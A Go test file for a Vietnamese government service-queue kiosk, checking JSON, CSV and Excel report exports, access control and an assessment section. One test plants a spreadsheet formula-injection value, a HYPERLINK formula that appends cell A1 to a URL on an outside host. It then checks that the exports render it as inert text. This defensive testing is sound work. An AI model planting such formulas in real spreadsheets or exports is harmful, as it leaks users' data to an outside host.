package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/motcua/motcua/kiosk"
	"github.com/motcua/motcua/kiosk/sqlite"
	"github.com/xuri/excelize/v2"
)

// A clerk downloads the report as JSON, CSV (with the BOM Excel needs) and .xlsx (the title,
// what it measures and that it is not the Decision 766 score, numbers as numbers); a bad
// parameter is refused by name.
func TestReportExports(t *testing.T) {
	rig := newLANRig(t, nil)
	q := rig.s.Queue.(*sqlite.QueueService)
	rig.s.Reports = &sqlite.ReportService{DB: rig.db, Queue: q, Staff: rig.s.Auth.(*sqlite.AuthService)}
	clerk := rig.login(t, "192.0.2.31", "canbo1", "1111")
	for _, line := range []string{"hotich", "hotich", "khac"} {
		res, err := clerk.Post(rig.ts.URL+"/api/v1/tickets", "application/json", strings.NewReader(`{"service_id":"`+line+`"}`))
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
	}
	get := func(path string) (*http.Response, []byte) {
		res, err := clerk.Get(rig.ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(res.Body)
		res.Body.Close()
		return res, b
	}
	const params = "?from=2026-11-25&to=2026-11-25&period=day&by=line"
	res, body := get("/api/v1/admin/reports" + params)
	var rep kiosk.Report
	if err := json.Unmarshal(body, &rep); err != nil || res.StatusCode != 200 || rep.Total.Issued != 3 || rep.Groups[0].Name != "Hộ tịch – Chứng thực" {
		t.Fatalf("%d %v %s", res.StatusCode, err, body)
	}

	res, body = get("/api/v1/admin/reports.csv" + params)
	text := string(body)
	if res.StatusCode != 200 || !strings.HasPrefix(text, "\uFEFFKỳ,Dịch vụ,Đã cấp số") || !strings.Contains(text, "25/11/2026,Hộ tịch – Chứng thực,2,") ||
		!strings.Contains(text, "Cả kỳ,Tổng cộng,3,") || !strings.Contains(res.Header.Get("Content-Disposition"), "bao-cao-dich-vu-ngay-2026-11-25-2026-11-25.csv") {
		t.Fatalf("csv %d %q\n%s", res.StatusCode, res.Header.Get("Content-Disposition"), text)
	}

	res, body = get("/api/v1/admin/reports.xlsx" + params)
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil || res.StatusCode != 200 {
		t.Fatalf("xlsx %d %v", res.StatusCode, err)
	}
	defer f.Close()
	title, _ := f.GetCellValue("Báo cáo", "A1")
	note, _ := f.GetCellValue("Báo cáo", "A2")
	issued, _ := f.GetCellType("Báo cáo", "C5")
	name, _ := f.GetCellValue("Báo cáo", "B5")
	if title != "Báo cáo theo dịch vụ, từng ngày, từ 25/11/2026 đến 25/11/2026" || !strings.Contains(note, "không phải điểm") || !strings.Contains(note, "766") ||
		name != "Hộ tịch – Chứng thực" || issued == excelize.CellTypeSharedString {
		t.Errorf("xlsx: %q / %q / %q / C5 type %v", title, note, name, issued)
	}

	res, body = get("/api/v1/admin/reports?from=2026-11-25&to=2026-11-25&period=year&by=line")
	if res.StatusCode != 400 || !strings.Contains(string(body), `"field":"period"`) {
		t.Errorf("bad period: %d %s", res.StatusCode, body)
	}
	anon, _ := http.Get(rig.ts.URL + "/api/v1/admin/reports" + params)
	anon.Body.Close()
	if anon.StatusCode != http.StatusUnauthorized {
		t.Errorf("without a session: %d", anon.StatusCode)
	}
}

// reportGet fetches a report export with c and returns the status and the body.
func reportGet(t *testing.T, rig *lanRig, c *http.Client, path string) (int, []byte) {
	t.Helper()
	res, err := c.Get(rig.ts.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, b
}

// readReportCSV reads a CSV export back as a spreadsheet would, every line as wide as the
// first (encoding/csv's default check).
func readReportCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(body, []byte("\uFEFF")) {
		t.Fatalf("no byte-order mark: %.40q", body)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, body)
	}
	return recs
}

// A clerk whose name an admin typed as a formula: the CSV carries it as text (a leading
// apostrophe), the .xlsx as a string cell with no formula.
func TestReportExportsKeepFormulasText(t *testing.T) {
	rig := newLANRig(t, nil)
	q := rig.s.Queue.(*sqlite.QueueService)
	auth := rig.s.Auth.(*sqlite.AuthService)
	rig.s.Reports = &sqlite.ReportService{DB: rig.db, Queue: q, Staff: auth}
	const evil = `=HYPERLINK("http://x.vn/?"&A1,"Nguyễn Thị Lan")`
	all, err := auth.AllStaff(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range all {
		if m.ID == "canbo1" {
			m.Name = evil
			if err := auth.SaveStaff(context.Background(), m, ""); err != nil {
				t.Fatal(err)
			}
		}
	}
	clerk := rig.login(t, "192.0.2.31", "canbo1", "1111")
	if status, body := call(t, clerk, "POST", rig.ts.URL+"/api/v1/tickets", `{"service_id":"hotich"}`); status != 201 {
		t.Fatalf("issue: %d %s", status, body)
	}
	if status, body := call(t, clerk, "POST", rig.ts.URL+"/api/v1/counters/1/call-next", ``); status != 200 {
		t.Fatalf("call: %d %s", status, body)
	}
	const params = "?from=2026-11-25&to=2026-11-25&period=day&by=clerk"
	status, body := reportGet(t, rig, clerk, "/api/v1/admin/reports.csv"+params)
	recs := readReportCSV(t, body)
	if status != 200 || len(recs) < 2 || recs[1][1] != "'"+evil {
		t.Fatalf("csv %d: %q", status, recs)
	}

	status, body = reportGet(t, rig, clerk, "/api/v1/admin/reports.xlsx"+params)
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil || status != 200 {
		t.Fatalf("xlsx %d %v", status, err)
	}
	defer f.Close()
	name, _ := f.GetCellValue("Báo cáo", "B5")
	formula, _ := f.GetCellFormula("Báo cáo", "B5")
	kind, _ := f.GetCellType("Báo cáo", "B5")
	if name != evil || formula != "" || kind != excelize.CellTypeSharedString {
		t.Errorf("xlsx B5: %q, formula %q, type %v", name, formula, kind)
	}
}

// While the province has the assessment on, the CSV and the .xlsx carry the nine
// indicators' averages and counts, the same figures as the JSON report; off, neither does.
func TestReportExportsAssessment(t *testing.T) {
	rig := newAssessLANRig(t, true)
	rig.s.LookupBase = "http://192.168.1.10:8080"
	clerk := as(t, rig, "192.0.2.31", "canbo1", "1111")
	window := as(t, rig, "window", "", "")
	// Two dossiers returned and assessed by their receipts' QR: attitude 2 and 1 (1.50),
	// overall 3 once, bodies never (no average).
	for _, scores := range []string{`{"attitude":2,"overall":3}`, `{"attitude":1}`} {
		code, qr := readyDossier(t, clerk)
		if status, body := clerk.Do("POST", "/api/v1/dossiers/"+code+"/transition", `{"action":"return"}`); status != 200 {
			t.Fatalf("return: %d %s", status, body)
		}
		if status, body := window.Do("POST", "/api/v1/assessments", fmt.Sprintf(`{"code":%q,"scores":%s}`, qr, scores)); status != 201 {
			t.Fatalf("assess: %d %s", status, body)
		}
	}
	admin := rig.login(t, "192.0.2.60", "quantri", "9999")
	const params = "?from=2026-11-25&to=2026-11-25&period=day&by=line"
	status, body := reportGet(t, rig, admin, "/api/v1/admin/reports"+params)
	var rep kiosk.Report
	if err := json.Unmarshal(body, &rep); status != 200 || err != nil || rep.Assessment == nil || rep.Assessment.Count != 2 ||
		rep.Assessment.Averages[kiosk.IndAttitude] != 1.5 {
		t.Fatalf("report %d %v: %s", status, err, body)
	}
	a := rep.Assessment
	// want checks one indicator's row of an export: its name, average and count as the JSON has them.
	want := func(where string, ind kiosk.AssessmentIndicator, avg string, scored string) {
		t.Helper()
		n := a.Scored[ind.ID]
		if scored != strconv.Itoa(n) {
			t.Errorf("%s %s: %s scored, JSON %d", where, ind.ID, scored, n)
		}
		if n == 0 {
			if avg != "" {
				t.Errorf("%s %s: average %q of nothing", where, ind.ID, avg)
			}
			return
		}
		got, err := strconv.ParseFloat(avg, 64)
		if err != nil || math.Abs(got-a.Averages[ind.ID]) > 0.005 {
			t.Errorf("%s %s: average %q, JSON %v", where, ind.ID, avg, a.Averages[ind.ID])
		}
	}

	status, body = reportGet(t, rig, admin, "/api/v1/admin/reports.csv"+params)
	recs := readReportCSV(t, body)
	at := slices.IndexFunc(recs, func(r []string) bool { return r[0] == "Đánh giá 9 chỉ số theo hồ sơ" })
	if status != 200 || at < 0 || len(recs) != at+4+len(kiosk.AssessmentIndicators) || !slices.Equal(recs[at-1], make([]string, len(recs[0]))) {
		t.Fatalf("csv %d: %q", status, recs)
	}
	if !strings.Contains(recs[at+1][0], "không phải điểm chấm theo Quyết định 766") || recs[at+2][0] != "Số hồ sơ được đánh giá" || recs[at+2][1] != "2" ||
		!slices.Equal(recs[at+3][:5], []string{"Chỉ số", "Cách chấm", "Thang điểm", "Điểm trung bình", "Số lượt có điểm"}) {
		t.Fatalf("csv section head: %q", recs[at:at+4])
	}
	for i, ind := range kiosk.AssessmentIndicators {
		row := recs[at+4+i]
		if row[0] != ind.Name {
			t.Fatalf("csv row %d: %q, want %s", i, row, ind.Name)
		}
		want("csv", ind, row[3], row[4])
	}

	status, body = reportGet(t, rig, admin, "/api/v1/admin/reports.xlsx"+params)
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil || status != 200 {
		t.Fatalf("xlsx %d %v", status, err)
	}
	defer f.Close()
	const sheet = "Đánh giá 9 chỉ số"
	rows, err := f.GetRows(sheet)
	if err != nil || len(rows) != 5+len(kiosk.AssessmentIndicators) || rows[0][0] != "Đánh giá 9 chỉ số theo hồ sơ" || rows[2][1] != "2" {
		t.Fatalf("xlsx sheet %q: %q %v", sheet, rows, err)
	}
	for i, ind := range kiosk.AssessmentIndicators {
		r := 6 + i
		name, _ := f.GetCellValue(sheet, fmt.Sprintf("A%d", r))
		avg, _ := f.GetCellValue(sheet, fmt.Sprintf("D%d", r))
		scored, _ := f.GetCellValue(sheet, fmt.Sprintf("E%d", r))
		kind, _ := f.GetCellType(sheet, fmt.Sprintf("E%d", r))
		if name != ind.Name || kind == excelize.CellTypeSharedString {
			t.Fatalf("xlsx row %d: %q, count as %v", r, name, kind)
		}
		want("xlsx", ind, avg, scored)
	}

	setAssessment(t, rig, false)
	_, body = reportGet(t, rig, admin, "/api/v1/admin/reports.csv"+params)
	if strings.Contains(string(body), "Đánh giá 9 chỉ số") {
		t.Errorf("setting off, the CSV still has the assessment")
	}
	_, body = reportGet(t, rig, admin, "/api/v1/admin/reports.xlsx"+params)
	f2, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f2.Close()
	if idx, _ := f2.GetSheetIndex(sheet); idx >= 0 || len(f2.GetSheetList()) != 1 {
		t.Errorf("setting off, the .xlsx still has %q", f2.GetSheetList())
	}
}
